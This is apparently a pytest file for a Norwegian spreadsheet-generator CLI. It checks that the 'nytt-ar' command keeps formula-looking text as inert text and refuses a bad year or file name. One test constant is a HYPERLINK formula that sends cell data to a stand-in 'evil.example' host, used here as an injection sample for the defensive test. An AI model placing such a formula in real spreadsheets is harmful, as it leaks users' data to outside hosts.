"""`nytt-ar` carries every cell as read: text stays text in every sheet, every column is kept, and the
new workbook passes `sjekk`. Wrong years and file names are refused before anything is written."""

from __future__ import annotations

from datetime import date

import openpyxl
import pytest
from click.testing import CliRunner
from conftest import basic_sheets

from generator.cli import main
from generator.workbook import read_workbook

# Text a careless writer turns into a live formula. Each begins with one of =, +, - and @.
FORMULA = "=2+2"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def write_text_workbook(path, sheets: dict[str, list[list]]):
    """Like conftest.write_xlsx, but every text is a string cell, as Excel stores «'=2+2» typed by HR."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                cell = ws.cell(r, c, value)
                if isinstance(value, str):
                    cell.data_type = "s"
    wb.save(path)
    return path


def hostile_sheets() -> dict[str, list[list]]:
    """The basic municipality with formula-looking text in every sheet and column kind, and the
    leaders named in Fornavn and Etternavn, one of them with a first name of two words."""
    sheets = basic_sheets()
    kommune = {"Adresse": "=Rådhusgata 1", "Nettside": "@testvik"}
    sheets["Kommune"] = [[row[0], kommune.get(row[0], row[1])] for row in sheets["Kommune"]]
    header, *rows = sheets["Ledere"]
    name_col = header.index("Navn")
    header = header[:name_col] + ["Fornavn", "Etternavn"] + header[name_col + 1:] + [HYPERLINK, "Telefon"]
    new_rows = []
    for i, row in enumerate(rows):
        first, _, last = row[name_col].partition(" ")
        if row[0] == 210:
            first = "Kari Anne"
        extra = [f"+47 {i}", "-12 34"]
        new_rows.append(row[:name_col] + [first, last] + row[name_col + 1:] + extra)
    stilling = header.index("Stilling")
    new_rows[2][stilling] = FORMULA
    sheets["Ledere"] = [header] + new_rows
    oppdrag_header = sheets["Oppdrag"][0] + ["Hensikt"]
    sheets["Oppdrag"] = [oppdrag_header] + [row + [f"@hensikt {row[0]}"] for row in sheets["Oppdrag"][1:]]
    sheets["Oppdrag"][1][2] = HYPERLINK  # Oppdrag
    sheets["Oppdrag"][1][3] = "-1 % avvik"  # Mål
    sheets["Oppdrag"][1][4] = "+månedsrapport"  # Målemetode
    sheets["Oppdrag"][1][5] = "=8,1 %"  # Utgangspunkt
    sheets["Tiltak"] = [["Ansattnr", "Nr", "Tiltak", "=Ansvarlig"]] + [row + ["=A1"] for row in sheets["Tiltak"][1:]]
    sheets["Utviklingsmål"][1][1] = "=Bli tryggere"
    sheets["Lederprinsipper"] = [["Prinsipp", "Beskrivelse"], ["=Vi er tydelige", "+Vi sier hva vi mener"],
                                 ["@Vi stoler på hverandre", "-og viser det"]]
    return sheets


@pytest.fixture
def hostile(tmp_path):
    return write_text_workbook(tmp_path / "arbeidsbok.xlsx", hostile_sheets())


def string_cells(path) -> dict[str, dict[str, object]]:
    """Every cell with a value, by sheet and coordinate, with its stored type."""
    wb = openpyxl.load_workbook(path)  # formulas as formulas: nothing evaluated
    return {ws.title: {c.coordinate: (c.data_type, c.value) for row in ws.iter_rows() for c in row
                       if c.value is not None} for ws in wb.worksheets}


@pytest.mark.slow
def test_formula_looking_text_survives_next_year_as_text_in_every_sheet(hostile, tmp_path):
    assert run("sjekk", hostile).exit_code == 0, run("sjekk", hostile).output
    ny = tmp_path / "ny.xlsx"
    result = run("nytt-ar", hostile, "--til", 2028, "--ut", ny)
    assert result.exit_code == 0, result.output
    cells = string_cells(ny)
    # Not one formula anywhere in the new workbook.
    formulas = [(sheet, coord) for sheet, found in cells.items() for coord, (t, _) in found.items() if t == "f"]
    assert formulas == []
    written = {(sheet, v) for sheet, found in cells.items() for t, v in found.values() if t == "s"}
    for sheet, text in [("Kommune", "=Rådhusgata 1"), ("Kommune", "@testvik"), ("Ledere", FORMULA),
                        ("Ledere", HYPERLINK), ("Ledere", "+47 0"), ("Ledere", "-12 34"), ("Oppdrag", HYPERLINK),
                        ("Oppdrag", "-1 % avvik"), ("Oppdrag", "+månedsrapport"), ("Oppdrag", "=8,1 %"),
                        ("Oppdrag", "@hensikt 1"), ("Tiltak", "=Ansvarlig"), ("Lederprinsipper", "=Vi er tydelige"),
                        ("Lederprinsipper", "+Vi sier hva vi mener"), ("Lederprinsipper", "@Vi stoler på hverandre"),
                        ("Lederprinsipper", "-og viser det")]:
        assert (sheet, text) in written, (sheet, text)

    check = run("sjekk", ny)
    assert check.exit_code == 0, check.output
    old, new = read_workbook(hostile), read_workbook(ny)
    assert [(l.ansattnr, l.navn, l.fornavn, l.stilling, dict(l.ekstra)) for l in new.ledere] == [
        (l.ansattnr, l.navn, l.fornavn, l.stilling, dict(l.ekstra)) for l in old.ledere]
    assert [(o.nr, o.tekst, o.mal, o.malemetode, o.utgangspunkt, dict(o.ekstra)) for o in new.oppdrag] == [
        (o.nr, o.tekst, o.mal, o.malemetode, o.utgangspunkt, dict(o.ekstra)) for o in old.oppdrag]
    assert [(p.prinsipp, p.beskrivelse) for p in new.lederprinsipper] == [
        (p.prinsipp, p.beskrivelse) for p in old.lederprinsipper]
    assert (new.kommune.adresse, new.kommune.nettside) == ("=Rådhusgata 1", "@testvik")
    # Tiltak and Utviklingsmål start empty, with the columns they had (a template may use them).
    assert new.tiltak == [] and new.utviklingsmal == []
    tiltak_header = [c.value for c in openpyxl.load_workbook(ny)["Tiltak"][1]]
    assert "=Ansvarlig" in tiltak_header


def test_a_first_name_of_two_words_is_kept(hostile, tmp_path):
    ny = tmp_path / "ny.xlsx"
    assert run("nytt-ar", hostile, "--til", 2028, "--ut", ny).exit_code == 0
    kari = next(l for l in read_workbook(ny).ledere if l.ansattnr == "210")
    assert (kari.fornavn, kari.navn) == ("Kari Anne", "Kari Anne Sykehjem")
    ws = openpyxl.load_workbook(ny)["Ledere"]
    header = [c.value for c in ws[1]]
    # Fornavn and Etternavn are carried as they were; no Navn column beside them that nobody filled in.
    assert "Fornavn" in header and "Etternavn" in header and "Navn" not in header


def test_next_year_with_a_name_column_and_a_first_name_column(tmp_path):
    sheets = basic_sheets()
    header, *rows = sheets["Ledere"]
    sheets["Ledere"] = [header + ["Fornavn"]] + [row + ["Kari Anne" if row[0] == 210 else None] for row in rows]
    workbook = write_text_workbook(tmp_path / "arbeidsbok.xlsx", sheets)
    ny = tmp_path / "ny.xlsx"
    assert run("nytt-ar", workbook, "--til", 2028, "--ut", ny).exit_code == 0
    kari = next(l for l in read_workbook(ny).ledere if l.ansattnr == "210")
    assert (kari.fornavn, kari.navn) == ("Kari Anne", "Øystein Sykehjem")


@pytest.mark.parametrize("til", [2027, 2026])
def test_the_new_year_must_be_later(hostile, tmp_path, til):
    ny = tmp_path / "ny.xlsx"
    result = run("nytt-ar", hostile, "--til", til, "--ut", ny)
    assert result.exit_code in (1, 2)
    assert f"--til {til}" in result.output and "2027" in result.output and "senere" in result.output
    assert "Traceback" not in result.output
    assert not ny.exists()


@pytest.mark.parametrize("name", ["ny.txt", "ny.xls", "ny"])
def test_the_new_workbook_must_be_an_xlsx(hostile, tmp_path, name):
    ny = tmp_path / name
    result = run("nytt-ar", hostile, "--til", 2028, "--ut", ny)
    assert result.exit_code in (1, 2)
    assert ".xlsx" in result.output and name in result.output and "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == [hostile]


def test_dates_stay_dates(hostile, tmp_path):
    ny = tmp_path / "ny.xlsx"
    assert run("nytt-ar", hostile, "--til", 2028, "--ut", ny).exit_code == 0
    frist = read_workbook(ny).oppdrag[0].frist
    assert frist == date(2028, 12, 31)  # moved with the period
    ws = openpyxl.load_workbook(ny)["Oppdrag"]
    col = [c.value for c in ws[1]].index("Frist") + 1
    assert ws.cell(2, col).number_format == "dd.mm.yyyy"
